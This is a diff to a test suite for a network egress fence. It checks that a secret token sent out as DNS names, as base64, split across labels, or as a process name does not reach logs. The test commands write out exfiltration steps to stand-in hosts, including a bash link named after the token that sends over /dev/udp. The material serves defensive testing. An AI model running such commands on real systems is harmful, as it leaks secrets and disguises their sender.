@@ -3,7 +3,8 @@
  * namespace (egress-topology.ts), `run` as root there, so the command runs as the agent's
  * own user behind the agent's proxy. The daemon refuses the names but knows no secret;
  * run does, and marks them. Hostile: the value as a label (it arrives lower-cased), its
- * base64, and the value split over two labels; none of them may reach the ledger, the
+ * base64, the value split over two labels, and the value as the name of a process that
+ * sends to a blocked destination; none of them may reach the ledger, the
  * egress annotations, the summary or attribution.json, while an innocent refused name
  * stays as it was asked. Needs root, nft, ip, dig, useradd and setpriv.
  */
@@ -14,7 +15,7 @@ import { canUseNetns } from '../../src/devkit/netns.js';
 import { Job, type StepResult } from '../../src/devkit/run-action.js';
 import { parseLedgerText } from '../../src/ledger/ledger.js';
 import { fenceId } from '../../src/rootd/protocol.js';
-import { World } from './egress-topology.js';
+import { EVIL4, World } from './egress-topology.js';
 
 const usable =
   canUseNetns() &&
@@ -66,6 +67,11 @@ suite('a secret the command sends out as DNS names', () => {
           `q "$(printf %s "$TOKEN" | base64 | tr -d '=').evil.test"`,
           'q "$(printf %s "$TOKEN" | cut -c1-6).$(printf %s "$TOKEN" | cut -c7-).split.evil.test"',
           'q innocent.evil.test',
+          // The value as a process's name: a link named by it to bash, which holds a UDP
+          // socket to a blocked address while the fence looks up who sent to it.
+          'd=$(mktemp -d) && ln -s /bin/bash "$d/$TOKEN"',
+          `"$d/$TOKEN" -c 'exec 3<>/dev/udp/${EVIL4}/9999; for i in 1 2 3 4 5 6; do echo x >&3; sleep 0.5; done'`,
+          'rm -rf "$d"',
           'echo asked',
         ].join('\n'),
       },
@@ -105,6 +111,21 @@ suite('a secret the command sends out as DNS names', () => {
     for (const n of marked) expect(n.name).toMatch(/^\[\d+ chars carrying TOKEN\]$/);
     // A refused name without a secret stays as it was asked.
     expect(rep.blockedNames.map((n) => n.name)).toContain('innocent.evil.test');
+  });
+
+  test('hostile: the value as the name of a process that sent to a blocked destination is found and shown by length only', () => {
+    const finished = events().find((e) => e.type === 'run.finished')?.data;
+    expect(finished?.secretsInProcessNames).toEqual([{ secret: 'TOKEN', processes: 1 }]);
+    expect(
+      runStep.commands.some(
+        (c) => c.command === 'warning' && c.message.includes('secret TOKEN into the name of 1 process'),
+      ),
+    ).toBe(true);
+    const rep = events().find((e) => e.type === 'egress.report')?.data as {
+      blockedDestinations: { address: string; port?: number; process?: string }[];
+    };
+    const sent = rep.blockedDestinations.find((d) => d.address === EVIL4 && d.port === 9999);
+    expect(sent?.process).toMatch(/^\[\d+ chars carrying TOKEN\]$/);
   });
 
   test('hostile: the value, lower-cased, as base64 or split over labels, is in no record the job keeps', () => {
